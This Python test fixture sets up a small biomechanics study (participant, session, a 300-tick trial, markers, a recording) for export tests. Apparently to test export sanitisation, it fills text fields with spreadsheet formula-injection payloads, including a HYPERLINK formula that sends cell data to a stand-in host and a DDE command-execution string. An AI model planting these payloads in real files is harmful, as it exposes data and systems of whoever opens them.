"""A small study for the export tests, made through the API where the API makes it and
written directly where only a worker would (ticks, a finished trial, stored markers):
one participant with a blinded condition, one evaluation session with a completed PEC
trial of 300 ticks, markers, a recording, and text fields that look like formulas."""

from __future__ import annotations

import math
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlalchemy.orm import Session

from backend.db.engine import make_engine
from backend.db.evidence_tables import Recording, Trial
from backend.db.lab import Marker
from backend.db.models import Run, ticks_table
from controller.tick_record import TickRecord

#: Text a spreadsheet would run, one per field the exports write.
FORMULAS = {
    "participant_notes": '=HYPERLINK("http://example.invalid/?d="&A1,"x")',
    "session_notes": "+SUM(1,2)",
    "recording_label": "-2+3",
    "recording_notes": "@SUM(A1:A9)",
    "marker_label": "=cmd|' /C calc'!A0",
    "marker_note": "\t=1+1",
}
#: The study's marker buttons: kept by the de-identified export.
BUTTONS = ["box dropped"]
DATASET_INFO = {"authors": ["Ada Lovelace", "Charles Babbage"], "license": "CC0-1.0",
                "institution_name": "Test lab", "institution_address": "1 Test Street",
                "institution_department": "Biomechanics", "instructions": "lift the box"}


def _ticks(run_id: int, n: int) -> list[dict[str, Any]]:
    rows = []
    for i in range(n):
        r = TickRecord(seq=i, t=i / 100, t_host=1.7e9 + i / 100,
                       q_left=0.5 * math.sin(i / 40), q_right=-0.4 * math.sin(i / 40),
                       lock_left=150 <= i < 220, lock_right=150 <= i < 220)
        d = {k: (None if isinstance(v, float) and v != v else v)
             for k, v in r.as_dict().items()}
        d["run_id"] = run_id
        rows.append(d)
    return rows


def make_study(client: TestClient, db_url: str, name: str = "Exports") -> dict[str, int]:
    """The study; returns its ids (study, participant, session, trial)."""
    r = client.post("/api/studies", json={"name": name, "dataset_info": DATASET_INFO})
    assert r.status_code == 201, r.text
    study = r.json()["id"]
    assert client.put(f"/api/studies/{study}/marker-labels",
                      json={"labels": BUTTONS}).status_code == 200
    r = client.post(f"/api/studies/{study}/participants", json={
        "code": "P01", "age": 30, "consent_date": "2026-03-02",
        "notes": FORMULAS["participant_notes"]})
    assert r.status_code == 201, r.text
    pid = r.json()["id"]
    r = client.post(f"/api/participants/{pid}/conditions",
                    json={"label": "A", "controller": "pec"})
    assert r.status_code == 201, r.text
    r = client.post(f"/api/participants/{pid}/sessions", json={
        "kind": "evaluation", "precompression_pct": 25, "notes": FORMULAS["session_notes"]})
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    engine = make_engine(db_url)
    with Session(engine) as db:
        run = Run(device_kind="sim", controller="pec")
        db.add(run)
        db.flush()
        trial = Trial(session_id=sid, controller="pec", task="squat-sequence",
                      planned_order=0, status="completed", run_id=run.id)
        db.add(trial)
        db.flush()
        db.execute(insert(ticks_table), _ticks(run.id, 300))
        db.add(Recording(session_id=sid, run_id=run.id, label=FORMULAS["recording_label"],
                         status="stopped", notes=FORMULAS["recording_notes"]))
        for label, note, source, t in (
                ("trial_start", "", "system", 0.0),
                (FORMULAS["marker_label"], FORMULAS["marker_note"], "console", 1.0),
                ("box dropped", "", "console", 1.5),
                ("heel strike P01 said ouch", "", "lsl", 2.0)):
            db.add(Marker(session_id=sid, trial_id=trial.id, run_id=run.id, t=t,
                          lsl_time=600.0 + t, label=label, note=note, source=source))
        db.commit()
        ids = {"study": study, "participant": pid, "session": sid, "trial": trial.id}
    engine.dispose()
    return ids
